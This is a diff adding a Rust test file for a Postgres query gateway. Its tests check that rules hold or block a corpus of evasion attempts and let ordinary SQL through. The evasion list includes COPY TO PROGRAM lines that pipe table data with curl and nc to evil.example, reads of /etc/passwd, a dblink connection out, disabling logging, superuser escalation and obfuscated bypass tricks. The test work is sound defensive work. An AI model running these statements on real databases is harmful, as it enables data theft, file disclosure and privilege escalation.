@@ -1,0 +1,209 @@
+//! Statement rules against evasion: a corpus of attempts to get a risky
+//! statement past the rules (case, comments, quoting, multi-statement
+//! queries, writes in CTEs, prepared statements, `DO`, functions in every
+//! corner of a query, Unicode escapes), each of which must be held or
+//! blocked — zero bypasses — and ordinary work, which must pass. Printed as
+//! a table by `cargo test -- --nocapture`.
+
+use proctor_gateway_core::postgres::classify::{ClassCache, Classification, classify, shape};
+use proctor_gateway_core::postgres::rules::{RuleSet, RuleSetConfig, Verdict};
+
+/// Every class the issue lists for agents, held; the worst blocked.
+fn ci_rules() -> RuleSet {
+    let config: RuleSetConfig = toml::from_str(
+        r#"
+        block = ["copy_program", "alter_system", "load_library", "parser_settings"]
+        hold = ["ddl", "drop", "truncate", "delete_without_where", "update_without_where", "write_in_cte",
+                "copy_file", "do_block", "admin_function", "user_function", "explain_analyze_write",
+                "select_into", "sql_prepare", "sql_execute", "set_role", "role_change", "maintenance", "lock"]
+        "#,
+    )
+    .unwrap();
+    RuleSet::new("ci", &config).unwrap()
+}
+
+const EVASIONS: &[&str] = &[
+    "DROP TABLE customers",
+    "drop table customers",
+    "DrOp TaBlE \"customers\"",
+    "/* harmless */ DROP /* really */ TABLE customers",
+    "-- a comment\nDROP TABLE customers",
+    "/* nested /* comment */ still */ drop table customers",
+    "select 1; drop table customers",
+    "select 1;drop table customers;select 2",
+    "select * from customers where id = 1; delete from orders",
+    "TRUNCATE customers",
+    "truncate table only customers cascade",
+    "DELETE FROM customers",
+    "delete from customers where true",
+    "delete from customers where 1=1",
+    "DELETE FROM customers WHERE 'a' = 'a'",
+    "UPDATE customers SET email = 'x'",
+    "update customers set email = 'x' where 1 = 1",
+    "WITH gone AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM gone",
+    "with x as (update customers set email = 'x' where id = 1 returning id) select * from x",
+    "with x as (insert into orders (customer_id, total_cents, status) values (1, 1, 'x') returning id) select 1",
+    "with a as (with b as (delete from customers where id > 0 returning 1) select * from b) select * from a",
+    "COPY customers TO PROGRAM 'curl -d @- http://evil.example'",
+    "copy (select * from customers) to program 'nc evil.example 1234'",
+    "COPY customers FROM '/etc/passwd'",
+    "DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$",
+    "do language plpgsql $x$ begin execute format('drop table %I', 'customers'); end $x$",
+    "SELECT pg_read_file('/etc/passwd')",
+    "select PG_READ_FILE('/etc/passwd')",
+    "select pg_catalog.pg_read_file('/etc/passwd')",
+    "select \"pg_read_file\"('/etc/passwd')",
+    "select U&\"\\0070g_read_file\"('/etc/passwd')",
+    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
+    "select * from (values (pg_sleep(10))) v",
+    "select (select pg_read_file('/etc/passwd'))",
+    "select * from customers order by pg_read_file('/etc/hostname')",
+    "select count(*) from customers group by pg_read_file('/etc/hostname')",
+    "select distinct on (pg_sleep(1)) * from customers",
+    "select rank() over (order by pg_sleep(1)) from customers",
+    "select count(*) filter (where pg_sleep(1) is null) from customers",
+    "select case when id > 0 then pg_read_file('/etc/passwd') end from customers",
+    "select array[pg_read_file('/etc/passwd')]",
+    "select row(pg_sleep(1))",
+    "select pg_read_file('/etc/passwd')::text",
+    "select * from customers c, lateral pg_ls_dir('/') d",
+    "select * from customers where id in (select pg_sleep(1)::int)",
+    "insert into orders (customer_id, total_cents, status) values (1, 1, pg_read_file('/etc/passwd'))",
+    "update orders set status = pg_read_file('/etc/passwd') where id = 1",
+    "delete from orders where id = 1 and pg_sleep(1) is not null",
+    "select * from customers join orders on pg_sleep(1) is null",
+    "select * from customers limit (select length(pg_read_file('/etc/hostname')))",
+    "insert into orders select * from orders where id = 1 returning pg_read_file('/etc/passwd')",
+    "select set_config('role', 'postgres', false)",
+    "select lo_import('/etc/passwd')",
+    "select * from dblink('host=evil.example', 'select 1') as t(x int)",
+    "select my_schema.do_something()",
+    "select evil()",
+    "CALL do_evil()",
+    "EXPLAIN ANALYZE DELETE FROM customers WHERE id = 1",
+    "explain (analyze, format json) update customers set email = 'x' where id = 1",
+    "SELECT * INTO stolen FROM customers",
+    "PREPARE p AS DELETE FROM customers WHERE id = 1",
+    "EXECUTE p",
+    "prepare q(int) as select pg_read_file('/etc/passwd')",
+    "SET ROLE postgres",
+    "set session authorization postgres",
+    "SET LOCAL ROLE postgres",
+    "ALTER SYSTEM SET log_statement = 'none'",
+    "CREATE ROLE evil SUPERUSER",
+    "GRANT ALL ON customers TO public",
+    "REVOKE SELECT ON customers FROM app",
+    "ALTER ROLE app SUPERUSER",
+    "CREATE TABLE x (id int)",
+    "create temp table t as select * from customers",
+    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
+    "ALTER TABLE customers DROP COLUMN email",
+    "COMMENT ON TABLE customers IS 'x'",
+    "set standard_conforming_strings = off",
+    "LOAD '/tmp/evil.so'",
+    "VACUUM FULL customers",
+    "LOCK TABLE customers IN ACCESS EXCLUSIVE MODE",
+    "DROP\u{a0}TABLE customers",
+    "SELEC * FROM customers",
+    "select 'unterminated",
+];
+
+const ORDINARY: &[&str] = &[
+    "select * from customers limit 5",
+    "SELECT status, count(*) FROM orders GROUP BY 1",
+    "select lower(email), now(), coalesce(name, '?') from customers where id = 1",
+    "insert into orders (customer_id, total_cents, status) values (1, 100, 'paid')",
+    "update orders set status = 'shipped' where id = 7",
+    "delete from orders where id = 7",
+    "begin; select 1; commit",
+    "explain select * from customers",
+    "explain delete from orders",
+    "with recent as (select * from orders where created_at > now() - interval '1 day') select count(*) from recent",
+    "select pg_catalog.lower('X')",
+    "show search_path",
+    "set search_path = public",
+    "reset role",
+    "listen jobs; notify jobs",
+    "select current_user, version()",
+    "copy customers to stdout",
+    "select jsonb_build_object('a', 1), date_trunc('day', now())",
+];
+
+#[test]
+fn no_evasion_gets_past_the_rules() {
+    let rules = ci_rules();
+    let mut bypasses = Vec::new();
+    for sql in EVASIONS {
+        let classified = classify(sql);
+        let verdict = rules.decide(&Classification::from(classified.clone()));
+        let classes: Vec<&str> = classified.iter().flat_map(|c| c.classes.iter().map(|c| c.as_str())).collect();
+        let shown = match &verdict {
+            Verdict::Allow => "ALLOW (bypass)".to_string(),
+            Verdict::Block { rule, .. } => format!("block {rule}"),
+            Verdict::Hold { rule, .. } => format!("hold  {rule}"),
+        };
+        println!("{shown:<36} {:<48} {}", classes.join(","), sql.replace('\n', "\\n"));
+        if verdict == Verdict::Allow {
+            bypasses.push(*sql);
+        }
+    }
+    assert!(EVASIONS.len() >= 40);
+    assert!(bypasses.is_empty(), "{} bypasses: {bypasses:#?}", bypasses.len());
+}
+
+#[test]
+fn ordinary_work_passes() {
+    let rules = ci_rules();
+    for sql in ORDINARY {
+        let classified = classify(sql);
+        let verdict = rules.decide(&Classification::from(classified.clone()));
+        assert_eq!(verdict, Verdict::Allow, "{sql}: {classified:?}");
+    }
+}
+
+#[test]
+fn specific_classes_and_the_statement_they_are_in() {
+    let rules = ci_rules();
+    let decide = |sql: &str| rules.decide(&Classification::from(classify(sql)));
+    assert!(
+        matches!(decide("select 1; drop table t"), Verdict::Hold { statement: 1, ref rule, .. } if rule == "ci/drop")
+    );
+    assert!(
+        matches!(decide("drop table t; copy t to program 'x'"), Verdict::Block { statement: 1, ref rule, .. } if rule == "ci/copy_program"),
+        "a block anywhere blocks the query"
+    );
+    assert!(matches!(decide("selec 1"), Verdict::Block { ref rule, .. } if rule == "ci/unparseable"));
+    let texts: Vec<String> = classify("select 1; /* x */ drop table t").into_iter().map(|c| c.text).collect();
+    assert_eq!(texts, ["select 1", "drop table t"]);
+}
+
+#[test]
+fn shapes_join_only_what_differs_in_plain_literals() {
+    assert_eq!(
+        shape("select * from t where id = 42"),
+        shape("SELECT * FROM t WHERE id = 7").map(|s| s.replace("SELECT * FROM t WHERE", "select * from t where"))
+    );
+    assert_eq!(shape("select * from t where id = 42"), shape("select  *  from t   where id = 1"));
+    assert_eq!(shape("select 'a' -- c\n"), shape("select 'b'"));
+    assert_ne!(shape("select lower('a')"), shape("select pg_read_file('a')"));
+    // Anything that could be read two ways is not shaped.
+    for odd in [
+        "select E'\\x'",
+        "select 'a\\'",
+        "select $$x$$",
+        "select U&'\\0061'",
+        "select 1e5",
+        "select 0x1F",
+        "select 'open",
+    ] {
+        assert_eq!(shape(odd), None, "{odd}");
+    }
+    // The cache gives equal-shaped queries one classification.
+    let cache = ClassCache::new(16);
+    let first = cache.classify("delete from t where id = 1");
+    let second = cache.classify("delete from t where id = 2");
+    assert!(std::sync::Arc::ptr_eq(&first, &second));
+    assert_eq!(cache.len(), 1);
+    let other = cache.classify("delete from t");
+    assert_ne!(*first, *other);
+}
